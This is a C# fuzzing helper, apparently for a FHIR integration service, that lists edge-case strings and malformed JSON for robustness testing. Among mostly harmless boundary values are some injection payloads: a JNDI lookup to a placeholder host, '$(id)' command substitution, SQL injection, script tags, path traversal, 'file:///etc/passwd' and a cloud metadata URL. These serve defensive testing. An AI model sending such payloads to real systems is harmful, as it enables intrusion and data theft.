using System.Globalization;

namespace IntegrationHub.Tools.Hub.Fuzz;

/// <summary>Values that have broken other systems.</summary>
internal static class Nasty
{
    public static readonly string[] Texts =
    [
        "", " ", "\t\r\n", "\u0000", "a\u0000b", "\u202eevil\u202c", "\ufeff", "\ud83d\ude00\ud83d\ude00", "e\u0301", "\u0130\u0131\u00df", "\uffff", "null", "undefined", "NaN", "-Infinity", "true",
        "../../cases/x", "..%2f..%2f", "/", "\\", "%00", "%", "%zz", "'", "\"", "' OR '1'='1", "<script>alert(1)</script>", "<div xmlns=\"http://www.w3.org/1999/xhtml\"><!DOCTYPE x [<!ENTITY y \"z\">]>&y;</div>",
        "${jndi:ldap://invented.example/x}", "{{7*7}}", "$(id)", "=1+1", "|", "||", ",", "$", "\\,", "\\", "a\\", "*", "?", "#", "~", ":", "::", "@", "urn:", "urn:uuid:", "urn:uuid:x", "http://", "http://[", "https://a.example.org:99999/",
        "https://user:pass@a.example.org/", "http://127.0.0.1:9/", "http://169.254.169.254/latest", "file:///etc/passwd", "javascript:alert(1)", "data:,x", "#contained", "Patient/", "/Patient", "Patient/../Task", "Patient/x/_history/", "Patient/x/_history/99999999999",
        "0000-00-00", "0001-01-01", "0001-01-01T00:00:00+14:00", "9999-12-31", "9999-12-31T23:59:59.9999999Z", "9999-12-31T23:59:59-14:00", "10000-01-01", "2026-02-29", "2026-02-30", "2026-13-01", "2026-11-02T25:61:61Z", "2026-11-02T23:59:60Z", "2026-11-02", "2026-11", "2026", "26-1-2",
        "2026-11-02T09:00:00", "2026-11-02T09:00:00Z", "2026-11-02T09:00:00.00000000000000000001Z", "1900-01-01", "2999-01-01", "-1", "0", "1", "9990000018", "0000000000", "1234567890", "99999999999999999999999999999999", "1e5", "0x10", "\u0661\u0662\u0663", "\uff11\uff12",
        "825", "999", "RXQ", "ZZZZZ", "V2", "U6", "text/html; charset=\u0000", "application/pdf",
    ];

    /// <summary>JSON as it stands, some of which no serializer would write.</summary>
    public static readonly string[] Raw =
    [
        "null", "true", "false", "0", "-0", "-1", "1.5", "1e400", "-1e400", "1e-400", "1E+2147483647", "99999999999999999999999999", "9223372036854775808", "2147483648", "-2147483649", "0.1000000000000000000000000000000000001",
        "\"\"", "[]", "{}", "[[]]", "[null]", "[{}]", "{\"\":null}", "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\u0000\"", "{\"\\ud800\":1}", "{\"a\":1,\"a\":2}", "{\"resourceType\":\"Bundle\"}", "{\"resourceType\":\"Nothing\"}", "{\"reference\":\"#\"}",
        "01", "+1", ".5", "NaN", "'x'", "/*x*/1", "tru", "",
    ];

    public static string Text(Random random) => random.Next(30) switch
    {
        0 => new string('a', 1 + random.Next(70_000)),
        1 => string.Concat(Enumerable.Repeat("\ud83d\ude00", 1 + random.Next(2_000))),
        2 => random.NextInt64(long.MinValue, long.MaxValue).ToString(CultureInfo.InvariantCulture),
        3 => string.Concat(Enumerable.Range(0, 1 + random.Next(12)).Select(_ => (char)random.Next(1, 0xd7ff))),
        _ => Texts[random.Next(Texts.Length)],
    };

    public static string Json(Random random) => random.Next(12) switch
    {
        0 => Nested(random, '[', ']', ""),
        1 => Nested(random, '{', '}', "\"a\":"),
        2 => $"[{string.Join(',', Enumerable.Repeat("{\"a\":1}", 1 + random.Next(400)))}]",
        _ => Raw[random.Next(Raw.Length)],
    };

    private static string Nested(Random random, char open, char close, string name)
    {
        int[] depths = [8, 20, 46, 47, 48, 49, 62, 64, 65, 200, 5_000];
        var depth = depths[random.Next(depths.Length)];
        return string.Concat(Enumerable.Repeat($"{open}{name}", depth)) + (name.Length > 0 ? "1" : "") + new string(close, depth);
    }
}
